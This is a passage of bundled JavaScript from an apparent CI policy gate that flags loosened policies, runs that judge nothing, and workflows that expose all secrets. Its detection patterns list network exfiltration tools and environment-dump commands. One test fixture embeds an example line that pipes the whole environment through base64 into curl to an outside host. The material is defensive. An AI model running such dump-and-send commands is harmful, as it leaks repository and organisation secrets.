            loosened: '`{what}` asks for {wanted}, but the layer above allows {allowed}. Take it back, or open it there',
        },
        examples: [
            {
                title: 'The input `mode` asks to report only',
                files: {},
                facts: {
                    policy: { loosenings: [{ what: 'input mode', wanted: 'report', allowed: 'enforce', place: undefined }] },
                },
                expect: [{ message: 'loosened' }],
            },
            {
                title: 'The repository turns off what its organisation demands',
                files: {},
                facts: {
                    policy: {
                        loosenings: [
                            {
                                what: 'rules.secret/inherit',
                                wanted: 'off',
                                allowed: 'deny',
                                place: { path: '.github/interlock.yml', line: 4, column: 3 },
                            },
                        ],
                    },
                },
                expect: [{ message: 'loosened', path: '.github/interlock.yml', line: 4 }],
            },
            { title: 'Nothing is loosened', files: {}, facts: { policy: { loosenings: [] } }, expect: [] },
        ],
        options: {},
        key: ['what'],
        locked: true,
    },
    needs: ['policy'],
    evaluate({ policy }) {
        return policy.loosenings.map((loosening) => ({
            kind: 'violation',
            message: 'loosened',
            data: { what: loosening.what, wanted: loosening.wanted, allowed: loosening.allowed },
            location: loosened_locationOf(loosening),
        }));
    },
}));
function loosened_locationOf({ what, place }) {
    if (place !== undefined)
        return inFile(place);
    const isInput = what.startsWith('input ');
    return { object: isInput ? 'input' : 'policy', name: isInput ? what.slice('input '.length) : what };
}
function inFile({ path, line, column }) {
    return { path, start: { line, column }, end: { line, column } };
}

;// CONCATENATED MODULE: ./build/src/rules/policy/no-rules.js


const maxNamed = 5;
/* harmony default export */ const no_rules = (defineRule({
    meta: {
        id: 'policy/no-rules',
        title: 'At least one rule is decided in every run',
        severity: 'high',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'merge', 'deploy'],
        presets: { recommended: 'deny', strict: 'deny' },
        unknown: { posture: 'deny', merge: 'deny', deploy: 'deny' },
        controls: [
            { framework: 'NIST-CSF', id: 'GV.PO-02' },
            { framework: 'NIST-CSF', id: 'ID.RA-07' },
            { framework: 'NIST-800-207', id: 'T7' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-10' },
        ],
        rationale: 'A gate that judged nothing and is green says that all is well, and is the quietest way to switch a gate off: all rules off, none that applies, or a token that can see nothing. Where at least one rule could have been decided and was not, that is no violation: the run could not be decided. The rules about the gate itself do not count, because they pass on an empty policy.',
        remediation: 'Run the gate on a commit that has workflows, turn rules on in the policy (`extends: [preset:recommended]`), or remove the gate where nothing is to be judged.',
        messages: {
            off: 'Every rule is off at stage `{stage}`, so nothing was judged. Turn rules on in `{policy}`',
            'nothing-to-judge': 'The rules that are on ({total}) find nothing to judge here at stage `{stage}`. Run the gate where the workflows are, or turn on in `{policy}` what it should judge',
        },
        examples: [
            {
                title: 'All rules are off',
                files: {
                    '.github/workflows/ci.yml': 'on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make\n',
                },
                facts: { outcomes: [] },
                expect: [{ message: 'off' }],
            },
            {
                title: 'One rule passed',
                files: {
                    '.github/workflows/ci.yml': 'on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make\n',
                },
                facts: { outcomes: [{ meta: { id: 'workflow/unpinned-action' }, kind: 'pass', reason: '', findings: [], gaps: [] }] },
                expect: [],
            },
        ],
        options: {},
        key: ['stage'],
        locked: true,
    },
    needs: ['outcomes', 'policy', 'scene'],
    evaluate({ outcomes, policy, scene }) {
        const judged = outcomes.filter(({ meta }) => !meta.id.startsWith('policy/') && meta.id !== 'workflow/invalid');
        if (judged.some(({ kind }) => kind === 'pass' || kind === 'violation'))
            return [];
        const undecided = judged.filter(({ kind }) => kind === 'unknown' || kind === 'error');
        if (undecided.length > 0)
            return [undecidedRun(undecided)];
        const source = policy.layers[0]?.source ?? 'the policy';
        return [
            {
                kind: 'violation',
                message: judged.length === 0 ? 'off' : 'nothing-to-judge',
                data: { stage: scene.stage, total: String(judged.length), policy: source },
                location: { object: 'policy', name: source },
            },
        ];
    },
}));
const softenable = new Set(['unsupported', 'no-token']);
function undecidedRun(undecided) {
    const causes = new Set(undecided.flatMap(({ gaps }) => gaps.map(({ cause }) => cause)));
    const [cause = 'empty'] = causes;
    const names = undecided.map(({ meta }) => `\`${meta.id}\``);
    const shown = names.slice(0, maxNamed).join(', ');
    return (0,facts/* gap */.rQ)({
        item: 'the whole run',
        cause: causes.size === 1 && !softenable.has(cause) ? cause : 'empty',
        why: `no rule was decided; of those that apply, not even one of ${shown}${names.length > maxNamed ? ` and ${names.length - maxNamed} more` : ''}`,
        remedy: undecided.flatMap(({ gaps }) => gaps.flatMap(({ remedy }) => remedy ?? []))[0] ??
            'Put right what keeps the other rules from being decided.',
    });
}

// EXTERNAL MODULE: ./build/src/workflow/span-in-file.js + 1 modules
var span_in_file = __webpack_require__(4859);
;// CONCATENATED MODULE: ./build/src/workflow/expressions-in.js



function expressionsIn(definition) {
    const known = listed.get(definition);
    if (known !== undefined)
        return known;
    const found = [];
    expressions_in_walk(definition.root, {}, ownersOf(definition), found);
    listed.set(definition, found);
    return found;
}
const listed = new WeakMap();
function ownersOf(definition) {
    const jobs = definition.kind === 'workflow' ? definition.jobs : [];
    const own = definition.kind === 'action' && definition.runs.kind === 'composite' ? definition.runs.steps : [];
    const steps = [...(0,walk/* flatten */.Bq)(own), ...jobs.flatMap((job) => (job.kind === 'steps' ? [...(0,walk/* flatten */.Bq)(job.steps)] : []))];
    const conditions = [...jobs, ...steps].map(({ condition }) => condition?.span.start).filter((start) => start !== undefined);
    return {
        file: definition.file,
        jobs: new Map(jobs.map((job) => [job.id.span.start, job])),
        steps: new Map(steps.map((step) => [step.span.start, step])),
        conditions: new Set(conditions),
    };
}
function expressions_in_walk(node, owner, owners, found) {
    if (node.alias !== undefined)
        return;
    switch (node.kind) {
        case 'scalar':
            for (const embedded of expressionsOf(node, owners))
                found.push({ scalar: node, embedded, ...owner });
            return;
        case 'sequence':
            for (const item of node.items)
                expressions_in_walk(item, owner, owners, found);
            return;
        case 'mapping': {
            const step = owners.steps.get(node.span.start);
            const inner = step === undefined ? owner : { ...owner, step };
            for (const { key, value } of node.entries) {
                const job = owners.jobs.get(key.span.start);
                expressions_in_walk(key, inner, owners, found);
                expressions_in_walk(value, job === undefined ? inner : { job }, owners, found);
            }
        }
    }
}
function expressionsOf(scalar, owners) {
    if (scalar.expressions.length > 0 || !owners.conditions.has(scalar.span.start))
        return scalar.expressions;
    const inValue = { start: 0, end: scalar.value.length };
    return [{ span: (0,span_in_file/* spanMapper */.g)(owners.file.text, scalar)(inValue), inValue, expression: (0,condition_of/* conditionOf */.r)(scalar) }];
}

;// CONCATENATED MODULE: ./build/src/workflow/step-site.js

function stepSites(workflow) {
    return workflow.jobs.flatMap((job) => jobSites(workflow, job));
}
function jobSites(workflow, job) {
    return job.kind === 'steps' ? sites(workflow.file, job, job.steps, [job.env, workflow.env]) : [];
}
function actionSites(action) {
    return action.runs.kind === 'composite' ? sites(action.file, undefined, action.runs.steps, []) : [];
}
function sites(file, job, steps, outer) {
    const all = [...(0,walk/* flatten */.Bq)(steps)];
    return all.map((step, index) => ({ file, job, step, before: { steps: all, count: index }, env: [step.env, ...outer] }));
}

;// CONCATENATED MODULE: ./build/src/workflow/steps-before.js
const noSteps = { steps: [], count: 0 };
function lastBefore(values, before) {
    let low = 0;
    let high = values.length;
    while (low < high) {
        const middle = (low + high) >> 1;
        if ((values[middle]?.index ?? 0) < before.count)
            low = middle + 1;
        else
            high = middle;
    }
    return values[low - 1];
}

// EXTERNAL MODULE: ./build/src/workflow/embedded-expressions.js
var embedded_expressions = __webpack_require__(5099);
// EXTERNAL MODULE: ./build/src/workflow/shell.js + 4 modules
var shell = __webpack_require__(3670);
;// CONCATENATED MODULE: ./build/src/workflow/run-commands.js

const known = new WeakMap();
function runCommands(run) {
    const found = known.get(run) ?? (0,shell/* commandsOf */.K)(run.value);
    known.set(run, found);
    return found;
}

;// CONCATENATED MODULE: ./build/src/workflow/written-values.js


const files = ['GITHUB_ENV', 'GITHUB_OUTPUT'];
const written_values_known = new WeakMap();
function writtenVariable(before, name) {
    return lastBefore(valuesOf(before.steps).get(`GITHUB_ENV ${name.toLowerCase()}`) ?? [], before);
}
function writtenOutput(before, id, name) {
    return lastBefore(valuesOf(before.steps).get(`GITHUB_OUTPUT ${id.toLowerCase()} ${name.toLowerCase()}`) ?? [], before);
}
function valuesOf(steps) {
    const found = written_values_known.get(steps);
    if (found !== undefined)
        return found;
    const values = new Map();
    for (const [index, step] of steps.entries()) {
        if (step.kind !== 'run')
            continue;
        for (const file of files.filter((name) => step.run.value.toUpperCase().includes(name))) {
            for (const [name, text] of assignmentsTo(file, step.run)) {
                const key = file === 'GITHUB_ENV' ? `${file} ${name}` : `${file} ${step.id?.value.toLowerCase() ?? ''} ${name}`;
                const list = values.get(key);
                if (list === undefined)
                    values.set(key, [{ step, index, text }]);
                else
                    list.push({ step, index, text });
            }
        }
    }
    written_values_known.set(steps, values);
    return values;
}
function assignmentsTo(file, run) {
    const commands = runCommands(run);
    const isFile = (word) => word.text.toUpperCase().includes(file);
    const pipelines = new Set(commands
        .filter(({ words, redirects }) => words.some(isFile) || redirects.some(({ target }) => isFile(target)))
        .map((item) => item.pipeline));
    return commands.flatMap(({ words, redirects, pipeline }) => {
        if (!pipelines.has(pipeline))
            return [];
        const bodies = redirects.flatMap(({ body }) => (body === undefined ? [] : run.value.slice(body.start, body.end).split('\n')));
        return [...words.map(({ text }) => text), ...bodies].flatMap((text) => {
            const match = /^\s*([A-Za-z_][\w-]{0,255})=/.exec(text);
            return match?.[1] === undefined ? [] : [[match[1].toLowerCase(), text.slice(match[0].length)]];
        });
    });
}

;// CONCATENATED MODULE: ./build/src/workflow/value-source.js





const value_source_maxDepth = 100;
const order = ['secret', 'variable', 'literal', 'open', 'output', 'token', 'empty'];
function sourceOf(text, scope) {
    return strongest(sourcesOf(text, scope, new Set()));
}
function strongest(sources) {
    for (const kind of order) {
        const found = sources.find((source) => source.kind === kind);
        if (found !== undefined)
            return found;
    }
    return { kind: 'empty' };
}
function sourcesOf(text, scope, seen) {
    if (text.trim() === '')
        return [{ kind: 'empty' }];
    const embedded = (0,embedded_expressions/* embeddedExpressions */.g)(text);
    const sources = embedded.flatMap(({ expression }) => sourcesOfExpression(expression, scope, seen));
    if (scope.isScript)
        sources.push(...variablesIn(text).flatMap((name) => variable(name, scope, seen)));
    if (sources.length > 0)
        return sources;
    return [
        embedded.length > 0 || (scope.isScript && /[$`]/.test(text)) ? { kind: 'open', name: 'an expression' } : { kind: 'literal', text },
    ];
}
function variablesIn(text) {
    return [...text.matchAll(/\$(?:env:|\{env:|\{)?([A-Za-z_]\w{0,255})/gi)].flatMap((match) => (match[1] === undefined ? [] : [match[1]]));
}
function sourcesOfExpression(expression, scope, seen) {
    if (expression.kind === 'literal')
        return [{ kind: 'literal', text: String(expression.value) }];
    const sources = [];
    const inner = new Set();
    (0,visit_expression/* visitExpression */.w)(expression, (node) => {
        if (node.kind === 'property' || node.kind === 'index' || node.kind === 'filter')
            inner.add(node.object);
        if (inner.has(node) || node.kind === 'literal' || node.kind === 'binary' || node.kind === 'not' || node.kind === 'call')
            return;
        sources.push(...sourcesOfAccess(node, scope, seen));
    });
    return sources;
}
function sourcesOfAccess(node, scope, seen) {
    const path = contextPath(node) ?? rootOf(node);
    const [context, name = '*'] = path;
    switch (context) {
        case 'secrets':
            return [/^github_token$/i.test(name) ? { kind: 'token' } : { kind: 'secret', name }];
        case 'vars':
            return [{ kind: 'variable', name }];
        case 'github':
            if (name.toLowerCase() === 'token')
                return [{ kind: 'token' }];
            return name.toLowerCase() === 'event' && path[2]?.toLowerCase() === 'inputs' ? given(path[3] ?? '*', scope) : [];
        case 'env':
            return variable(name, scope, seen);
        case 'inputs':
            return given(name, scope);
        case 'steps':
            return stepOutput(name, path[3] ?? '', scope, seen);
        case 'needs':
        case 'jobs':
            return [{ kind: 'output' }];
        case 'matrix':
        case 'strategy':
            return [{ kind: 'open', name: context }];
        default:
            return [];
    }
}
function given(name, scope) {
    const sources = scope.input(name);
    return sources.length > 0 ? sources : [{ kind: 'open', name: `inputs.${name}` }];
}
function rootOf(node) {
    let root = node;
    while (root.kind === 'property' || root.kind === 'index' || root.kind === 'filter')
        root = root.object;
    return root.kind === 'context' ? [root.name.toLowerCase()] : [];
}
function variable(name, scope, seen) {
    const key = `${scope.env.length} ${name.toLowerCase()}`;
    if (seen.has(key))
        return [];
    seen.add(key);
    if ((scope.depth ?? 0) >= value_source_maxDepth)
        return [{ kind: 'secret', name: '*' }];
    for (const [index, layer] of scope.env.entries()) {
        const value = namedIn(layer, name);
        if (value?.kind !== 'scalar')
            continue;
        const outer = { ...scope, env: scope.env.slice(index + 1), before: noSteps, isScript: false, depth: (scope.depth ?? 0) + 1 };
        return sourcesOf(value.value, outer, seen);
    }
    const written = writtenVariable(scope.before, name);
    return written === undefined ? [{ kind: 'open', name }] : sourcesOfWritten(written, scope, seen);
}
function stepOutput(id, name, scope, seen) {
    const key = `output ${id.toLowerCase()} ${name.toLowerCase()}`;
    if (seen.has(key))
        return [];
    seen.add(key);
    if ((scope.depth ?? 0) >= value_source_maxDepth)
        return [{ kind: 'secret', name: '*' }];
    const written = writtenOutput(scope.before, id, name);
    const sources = written === undefined ? [] : sourcesOfWritten(written, scope, seen);
    const lasting = sources.filter(({ kind }) => kind === 'secret' || kind === 'variable');
    return lasting.length > 0 ? lasting : [{ kind: 'output' }];
}
function sourcesOfWritten({ step, index, text }, scope, seen) {
    const before = { steps: scope.before.steps, count: index };
    const inner = { ...scope, env: [step.env, ...scope.env.slice(1)], before, isScript: true, depth: (scope.depth ?? 0) + 1 };
    return sourcesOf(text, inner, seen);
}
const indexes = new WeakMap();
function namedIn(layer, name) {
    const index = indexes.get(layer) ?? new Map(layer.map((item) => [item.name.value.toLowerCase(), item.value]));
    indexes.set(layer, index);
    return index.get(name.toLowerCase());
}

;// CONCATENATED MODULE: ./build/src/workflow/callers.js




function inputSources(workflows, actions) {
    const callers = new Map();
    for (const workflow of workflows) {
        for (const job of workflow.jobs) {
            if (job.kind === 'call')
                add(callers, workflow.file, job, { env: [workflow.env], before: noSteps });
        }
    }
    for (const site of [...workflows.flatMap(stepSites), ...actions.flatMap(actionSites)]) {
        if (site.step.kind === 'uses')
            add(callers, site.file, site.step, site);
    }
    const known = new Map();
    const resolve = (file, name) => {
        const key = `${file.path}\n${name.toLowerCase()}`;
        const found = known.get(key);
        if (found !== undefined)
            return found;
        known.set(key, []);
        const sources = (callers.get(callers_placeOf(file)) ?? []).flatMap((caller) => {
            const value = callers_valueOf(caller.given, name);
            if (value?.kind !== 'scalar')
                return [];
            return [sourceOf(value.value, { ...caller.scope, isScript: false, input: (inner) => resolve(caller.file, inner) })];
        });
        known.set(key, sources);
        return sources;
    };
    return resolve;
}
function callers_valueOf(named, name) {
    return named.findLast((item) => item.name.value.toLowerCase() === name.toLowerCase())?.value;
}
function add(callers, file, use, scope) {
    const target = use.uses.target;
    if (target.kind !== 'local' && target.kind !== 'self')
        return;
    const place = placeOfUse(file, target.path);
    const caller = { file, given: use.with, scope: { env: scope.env, before: scope.before } };
    const list = callers.get(place);
    if (list === undefined)
        callers.set(place, [caller]);
    else
        list.push(caller);
}
function placeOfUse(file, path) {
    return placed(file.root, path);
}
function callers_placeOf(file) {
    return placed('', file.path.replace(/(?:^|\/)action\.ya?ml$/i, ''));
}
function placed(root, path) {
    return [root, (0,local_path/* localPath */.$)(path)].filter((part) => part !== '').join('/');
}

;// CONCATENATED MODULE: ./build/src/rules/support/dump-and-sink.js

const sinks = /^(?:curl|wget|wget2|nc|ncat|netcat|socat|telnet|openssl|base64|base32|xxd|od|hexdump|gpg|ssh|scp|sftp|rsync|rclone|ftp|lftp|tftp|http|https|xh|aria2c|mail|sendmail|mutt|dig|nslookup|host|aws|gsutil|gcloud|azcopy|s3cmd|mc|gh|hub|git|invoke-webrequest|invoke-restmethod|iwr|irm|certutil)$/i;
function dumpName(command) {
    const memory = memoryFile(command);
    if (memory !== undefined)
        return memory;
    const texts = command.words.map(({ text }) => text);
    const at = texts.findIndex((text) => !/^(?:sudo|-E|then|do|else|!|command|exec)$/.test(text));
    const name = (texts[at] ?? '').replace(/^(?:\/usr)?(?:\/bin\/)?/, '');
    const rest = at < 0 ? [] : texts.slice(at + 1);
    switch (name.toLowerCase()) {
        case 'env':
        case 'printenv':
            return rest.every((text) => /^(?:-0|--null)$/.test(text)) ? name : undefined;
        case 'export':
        case 'declare':
        case 'typeset':
            return rest.every((text) => /^-[xp]+$/.test(text)) ? name : undefined;
        case 'set':
            return rest.length === 0 ? name : undefined;
        default:
            return powershellDump(name, rest) ?? interpreterDump(command);
    }
}
function powershellDump(name, rest) {
    if (!/^(?:get-childitem|get-item|gci|dir|ls)$/i.test(name))
        return undefined;
    return rest.some((text) => /^env:[\\/]?\*?$/i.test(text)) ? `${name} env:` : undefined;
}
function memoryFile({ words, redirects }) {
    return (words.find(({ text }) => /^@?\/proc\/[^/]+\/(?:environ|mem)$/.test(text))?.text ??
        redirects.find(({ target }) => /^\/proc\/[^/]+\/environ$/.test(target.text))?.target.text);
}
function interpreterDump(command) {
    const program = (0,shell/* programOf */.o)(command);
    const script = program?.arguments.map(({ text }) => text).join(' ') ?? '';
    if (program === undefined || script.length > 20_000)
        return undefined;
    const whole = {
        node: /process\.env(?![\w.[?])/,
        bun: /process\.env(?![\w.[?])/,
        deno: /env\.toObject\(/,
        python: /os\.environ(?![\w.[])/,
        python3: /os\.environ(?![\w.[])/,
        ruby: /ENV(?:\.(?:to_h|inspect|to_a)|\b(?![\w.[]))/,
        perl: /%ENV/,
        php: /getenv\(\)|\$_ENV\b(?!\[)/,
        jq: /(?:^|[\s(,|])(?:env|\$ENV)(?![\w.[])/,
    };
    const pattern = Object.hasOwn(whole, program.name) ? whole[program.name] : undefined;
    return pattern?.test(script) === true ? program.name : undefined;
}
function sinkName(command) {
    const program = (0,shell/* programOf */.o)(command);
    if (program === undefined || !sinks.test(program.name))
        return undefined;
    const texts = program.arguments.map(({ text }) => text);
    const isDecoding = /^base(?:64|32)$/.test(program.name) && texts.some((text) => /^(?:-d|-D|-di|--decode)$/.test(text));
    const isQuiet = program.name === 'git' && !texts.includes('push') && !texts.includes('commit');
    return isDecoding || isQuiet ? undefined : program.name;
}

;// CONCATENATED MODULE: ./build/src/rules/support/name-of-uses.js
function nameOfUses({ scalar }) {
    return scalar.value.replace(/@.*/s, '');
}

;// CONCATENATED MODULE: ./build/src/rules/support/sink-index.js

const maxAround = 40;
const maxPipe = 10;
function sinkIndex(commands, script) {
    const last = new Map();
    const before = new Map();
    const behind = new Map();
    for (const command of commands) {
        const feeding = last.get(command.pipeline);
        if (feeding !== undefined) {
            before.set(command, feeding);
            behind.set(feeding, command);
        }
        last.set(command.pipeline, command);
    }
    const sinks = commands.flatMap((command, place) => sinkOf(command, place, chain(command, before).toReversed()));
    const loops = commands
        .map((command, place) => ({ command, place }))
        .filter(({ command }) => /^(?:while|until|for)$/.test(command.words[0]?.text ?? ''));
    const enclosing = enclosingOf(commands);
    return {
        script,
        sinks,
        around: (command) => enclosing.get(command) ?? [],
        pipe: (command) => chain(command, behind),
        lastSink: new Map(sinks.map((sink) => [sink.command.pipeline, sink])),
        lastLoop: new Map(loops.map((loop) => [loop.command.pipeline, loop])),
        byStart: new Map(commands.map((command) => [command.span.start, command])),
        ends: commands.flatMap(({ words }, index) => (words[0]?.text === 'done' ? [index] : [])),
    };
}
function chain(command, next) {
    const found = [];
    for (let one = command; one !== undefined && found.length <= maxPipe; one = next.get(one))
        found.push(one);
    return found;
}
function sinkOf(command, place, feeding) {
    const name = sinkName(command);
    if (name === undefined)
        return [];
    const words = feeding.flatMap((item) => [
        ...item.words,
        ...item.redirects.filter(({ operator }) => operator.startsWith('<')).map(({ target }) => target),
    ]);
    const pipeStart = Math.min(...feeding.map(({ span }) => span.start));
    return [{ name, command, place, pipeStart, text: words.map(({ text }) => text).join(' ') }];
}
function enclosingOf(commands) {
    const found = new Map();
    const open = [];
    for (const command of commands) {
        for (let last = open.at(-1); last !== undefined && last.span.end <= command.span.start; last = open.at(-1))
            open.pop();
        const around = open.slice(-maxAround).filter(({ span }) => span.end >= command.span.end);
        if (around.length > 0)
            found.set(command, around);
        open.push(command);
    }
    return found;
}
function sinkBehind(dump, name, index) {
    if (/^@?\/proc\//.test(name)) {
        const own = sinkName(dump);
        if (own !== undefined)
            return own;
    }
    const around = index.around(dump);
    const behindGroup = groupTaker(dump, index);
    const candidates = [...around, ...(behindGroup === undefined ? [] : [behindGroup])];
    for (const command of [dump, ...candidates]) {
        const piped = index.lastSink.get(command.pipeline);
        if (piped !== undefined && piped.command.span.start >= command.span.end)
            return piped.name;
        const loop = index.lastLoop.get(command.pipeline);
        const inLoop = loop === undefined ? undefined : sinkInLoop(loop, index);
        if (inLoop !== undefined && (command !== dump || loop?.command !== dump))
            return inLoop;
    }
    return candidates.map(sinkName).find((name) => name !== undefined);
}
function groupTaker(dump, { script, byStart }) {
    const group = /^[^|({]*[)}]\s*\|\s*/.exec(script.slice(dump.span.end, dump.span.end + 500))?.[0];
    return group === undefined ? undefined : byStart.get(dump.span.end + group.length);
}
function sinkInLoop({ place }, { ends, sinks }) {
    const end = ends[firstAtLeast(ends, place, (value) => value)] ?? Number.POSITIVE_INFINITY;
    const sink = sinks[firstAtLeast(sinks, place, (one) => one.place)];
    return sink !== undefined && sink.place <= end ? sink.name : undefined;
}
function firstAtLeast(items, value, key) {
    let low = 0;
    let high = items.length;
    while (low < high) {
        const middle = (low + high) >> 1;
        const item = items[middle];
        if (item !== undefined && key(item) < value)
            low = middle + 1;
        else
            high = middle;
    }
    return low;
}

;// CONCATENATED MODULE: ./build/src/rules/support/environment-dump.js






const maxFiles = 500;
function environmentDumps(steps) {
    const dumps = steps.flatMap((step, index) => (step.kind === 'run' ? dumpsOf(step, index) : []));
    if (dumps.length === 0)
        return [];
    const scripts = new Map();
    const indexOf = (step) => {
        const found = scripts.get(step) ?? sinkIndex(runCommands(step.run), step.run.value);
        scripts.set(step, found);
        return found;
    };
    const lastTaker = takers(steps, indexOf);
    return dumps.flatMap(({ step, index, dump, command }) => {
        const script = indexOf(step);
        const direct = sinkBehind(command, dump, script);
        const names = direct === undefined ? namesOf(command, script) : [];
        const taker = names.map(lastTaker).find((last) => last !== undefined && isAfter(last, index, command));
        const sink = direct ?? taker?.name;
        return sink === undefined ? [] : [{ step, dump, sink, span: command.span }];
    });
}
function dumpsOf(step, index) {
    return runCommands(step.run).flatMap((command) => {
        const dump = dumpName(command);
        return dump === undefined ? [] : [{ step, index, dump, command }];
    });
}
function isAfter(taker, index, command) {
    return taker.index > index || (taker.index === index && taker.start >= command.span.end);
}
function takers(steps, indexOf) {
    const all = steps.flatMap((step, index) => {
        if (step.kind === 'run')
            return indexOf(step).sinks.map((sink) => takerOf(sink, index));
        const upload = uploadOf(step);
        return upload === undefined ? [] : [{ index, start: 0, ...upload }];
    });
    const known = new Map();
    return (name) => {
        if (known.has(name))
            return known.get(name);
        if (known.size >= maxFiles)
            return { index: steps.length, start: 0, name: 'more files than can be followed', text: '' };
        const found = all.findLast(({ text }) => text.includes(name));
        known.set(name, found);
        return found;
    };
}
function takerOf(sink, index) {
    return { index, start: sink.pipeStart, name: sink.name, text: sink.text.replace(/\$\{(\w+)\}/g, '$$$1') };
}
function namesOf(dump, script) {
    const variables = script
        .around(dump)
        .flatMap(({ assignments }) => assignments
        .filter(({ value }) => value.span.start < dump.span.start && dump.span.end <= value.span.end)
        .map(({ name }) => `$${name}`));
    const files = filesOf(script.pipe(dump)).map((file) => file.slice(file.lastIndexOf('/') + 1).replace(/^\$\{?(\w+)\}?$/, '$$$1'));
    return [...variables, ...files].filter((name) => name.length > 0);
}
function filesOf(pipe) {
    return pipe.flatMap((command) => {
        const program = (0,shell/* programOf */.o)(command);
        const targets = command.redirects
            .filter(({ operator }) => operator.includes('>') && operator !== '>&')
            .map(({ target }) => target.text);
        const tee = program !== undefined && /^(?:tee|out-file|set-content)$/i.test(program.name) ? program.arguments.map(({ text }) => text) : [];
        return [...targets, ...tee].filter((text) => /[A-Za-z]/.test(text) && !/^-|^\/dev\/|GITHUB_(?:ENV|OUTPUT|PATH|STEP_SUMMARY)/.test(text));
    });
}
function uploadOf(step) {
    if (step.kind !== 'uses' || !/upload|release|cache|publish/i.test(step.uses.scalar.value))
        return undefined;
    const path = callers_valueOf(step.with, 'path') ?? callers_valueOf(step.with, 'files');
    return path?.kind === 'scalar' ? { name: nameOfUses(step.uses), text: path.value } : undefined;
}

;// CONCATENATED MODULE: ./build/src/rules/support/whole-secrets.js

function wholeSecretsIn(expression) {
    const parents = new Map();
    const contexts = [];
    (0,visit_expression/* visitExpression */.w)(expression, (node) => {
        for (const below of operands(node))
            parents.set(below, node);
        if (node.kind === 'context' && node.name.toLowerCase() === 'secrets')
            contexts.push(node);
    });
    return contexts.flatMap((context) => {
        const use = useOf(context, parents.get(context));
        return use === undefined ? [] : [use];
    });
}
function useOf(context, parent) {
    if (parent?.kind === 'property' && parent.object === context)
        return undefined;
    if (parent?.kind === 'index' && parent.object === context) {
        return parent.index.kind === 'literal' ? undefined : { how: 'computed', form: 'secrets[...]', span: parent.span };
    }
    if (parent?.kind === 'filter')
        return { how: 'all', form: 'secrets.*', span: parent.span };
    if (parent?.kind === 'call')
        return { how: 'all', form: `${nameOf(parent.name)}(secrets)`, span: parent.span };
    return { how: 'all', form: 'secrets', span: context.span };
}
function nameOf(name) {
    const known = ['toJSON', 'fromJSON', 'format', 'join', 'contains', 'startsWith', 'endsWith', 'hashFiles', 'case'];
    return known.find((item) => item.toLowerCase() === name.toLowerCase()) ?? name.slice(0, 40);
}
function operands(node) {
    switch (node.kind) {
        case 'property':
        case 'filter':
            return [node.object];
        case 'index':
            return [node.object, node.index];
        case 'call':
            return node.arguments;
        case 'not':
            return [node.operand];
        case 'binary':
            return [node.left, node.right];
        case 'error':
            return node.partial;
        case 'literal':
        case 'context':
            return [];
    }
}

;// CONCATENATED MODULE: ./build/src/rules/secret/bulk-exposure.js









/* harmony default export */ const bulk_exposure = (defineRule({
    meta: {
        id: 'secret/bulk-exposure',
        title: 'A job names each secret that it uses, and never takes or sends out all of them',
        severity: 'high',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['merge', 'deploy', 'posture'],
        presets: { recommended: 'deny', strict: 'deny' },
        unknown: { merge: 'deny', deploy: 'deny', posture: 'warn' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI2:2025' },
            { framework: 'NIST-CSF', id: 'PR.AA-01' },
            { framework: 'NIST-CSF', id: 'PR.DS-01' },
            { framework: 'NIST-CSF', id: 'PR.PS-06' },
            { framework: 'NIST-800-207', id: 'T2' },
            { framework: 'NIST-800-207', id: 'T6' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-6' },
            { framework: 'SSDF', id: 'PS.1.1' },
            { framework: 'SSDF', id: 'PW.7' },
        ],
        rationale: 'The runner receives exactly the secrets that a job names; whoever takes all of them, or one by a computed name, makes it receive every ' +
            'secret of the repository, the organisation and the environment, for any program of the job to read. The worm Shai-Hulud (September ' +
            '2025) planted a workflow that sent `toJSON(secrets)` to a collector; its second wave wrote all secrets to actionsSecrets.json. A ' +
            'program that lists the environment into `curl` or `base64` does the same with what the job has, past the mask of the log.',
        remediation: 'Name each secret (`secrets.NAME`) in the `env` of the step that needs it; where a name depends on something, write one step or job for each.',
        messages: {
            all: '`{form}` hands over every secret of the repository, its organisation and its environment in {place}; name each one: `secrets.NAME`',
            computed: '`{form}` takes a secret whose name only the run knows in {place}, so that the runner receives all of them; name each one: `secrets.NAME`',
            dump: '`{form}` lists the whole environment with its secrets into `{sink}` in {place}; send only what is meant, by name',
        },
        examples: [
            {
                title: 'All secrets in one variable',
                files: {
                    '.github/workflows/ci.yml': `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: ./deploy.sh
        env:
          ALL: \${{ toJson(Secrets) }}
          ONE: \${{ secrets[format('KEY_{0}', matrix.stage)] }}
      - run: env | base64 | curl -d @- https://example.com
`,
                },
                expect: [
                    { message: 'all', path: '.github/workflows/ci.yml', line: 8 },
                    { message: 'computed', path: '.github/workflows/ci.yml', line: 9 },
                    { message: 'dump', path: '.github/workflows/ci.yml', line: 10 },
                ],
            },
            {
                title: 'Secrets by name, and a listing for the log',
                files: {
                    '.github/workflows/ci.yml': `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: ./deploy.sh
        env:
          KEY: \${{ secrets.DEPLOY_KEY }}
          OTHER: \${{ secrets['OTHER_KEY'] }}
      - run: env | sort
`,
                },
                expect: [],
            },
        ],
        options: {},
        key: ['form', 'place'],
    },
    needs: ['workflows', 'actions'],
    evaluate({ workflows, actions }) {
        return [...workflows.items, ...actions.items].flatMap((definition) => [
            ...exposures(definition),
            ...unread(definition),
            ...dumps(definition),
        ]);
    },
}));
function exposures(definition) {
    const { file } = definition;
    const mappers = new Map();
    return expressionsIn(definition).flatMap((placed) => wholeSecretsIn(placed.embedded.expression).map(({ how, form, span }) => {
        const mapper = mappers.get(placed.scalar) ?? (0,span_in_file/* spanMapper */.g)(file.text, placed.scalar);
        mappers.set(placed.scalar, mapper);
        return {
            kind: 'violation',
            message: how,
            data: { form, place: bulk_exposure_placeOf(placed), sink: '' },
            location: (0,locate/* locate */.x5)(file, mapper(span)),
            ...(how === 'computed' ? { severity: 'medium' } : {}),
        };
    }));
}
function unread(definition) {
    const { file } = definition;
    for (const placed of expressionsIn(definition)) {
        const { expression, inValue, span } = placed.embedded;
